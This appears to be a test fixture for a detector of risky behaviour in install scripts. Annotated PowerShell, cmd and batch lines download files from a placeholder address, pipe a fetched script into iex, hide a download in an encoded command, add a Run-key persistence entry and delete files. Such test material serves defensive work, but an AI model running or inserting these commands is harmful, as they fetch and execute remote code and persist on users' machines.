# --- lines for PowerShell and cmd
powershell -NoProfile -Command "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe" # want process.shell @install, want net.connect @install -> "http://192.0.2.1/a.exe", want fs.write @install -> "a.exe"
powershell.exe -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQA= # want process.shell @install, want net.connect @install -> "http://192.0.2.1"
powershell -c "iwr -useb http://192.0.2.1/x.ps1 | iex" # want process.shell @install, want net.connect @install -> "http://192.0.2.1/x.ps1", want code.eval @install
pwsh -c "(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.1/b','b.exe')" # want process.shell @install, want net.connect @install -> "http://192.0.2.1/b"
cmd.exe /c "curl http://192.0.2.1/c -o c.bat" # want process.shell @install -> "curl http://192.0.2.1/c -o c.bat", want net.connect @install -> "http://192.0.2.1/c", want fs.write @install -> "c.bat"
cmd /c start /b node worker.js # want process.shell @install -> "start", want process.spawn @install -> "worker.js"
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d calc.exe # want system.persist @install -> "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
taskkill /im acme.exe # want process.signal @install -> "acme.exe"
echo powershell -c "iwr http://192.0.2.1/x.ps1"
# --- variables of the environment, and PowerShell's own
pwsh -c 'Remove-Item "$env:TEMP\x.txt"; $gone = "y"; Remove-Item $gone' # want process.shell @install, want fs.delete @install -> "{…}\\x.txt", want fs.delete @install, want env.read @install -> "TEMP"
cmd /c "del %APPDATA%\z.txt & set MODE=fast & del %MODE% %~dp0" # want process.shell @install -> "del %APPDATA%\\z.txt & set MODE=fast & del %MODE% %~dp0", want fs.delete @install -> "{…}/z.txt", want fs.delete @install, want env.read @install -> "APPDATA"
# --- batch files and scripts for PowerShell that a line runs
cmd /c setup.bat  # want process.shell @install -> "setup.bat"
powershell -ExecutionPolicy Bypass -File tools\go.ps1  # want process.shell @install -> "tools\\go.ps1"
# member setup.bat
rem del never.txt
curl http://192.0.2.1/a -o %TEMP%\a.exe &rem want net.connect @install -> "http://192.0.2.1/a", want fs.write @install -> "{…}/a.exe", want env.read @install -> "TEMP"
call other
# member other.cmd
del x.txt &rem want fs.delete @install -> "x.txt"
# member tools/go.ps1
# Remove-Item never.txt
iwr http://192.0.2.1/b -OutFile b.exe # want net.connect @install -> "http://192.0.2.1/b", want fs.write @install -> "b.exe"
Write-Output "Remove-Item never.txt"
# --- what a batch file only prints, and what goes nowhere
cmd /c setup.bat  # want process.shell @install -> "setup.bat"
# member setup.bat
echo.^> assistant -collectionFile a.qhcp
echo make ^<target^> where target is one of
where node >NUL 2>NUL
echo kept> null.txt &rem want fs.write @install -> "null.txt"
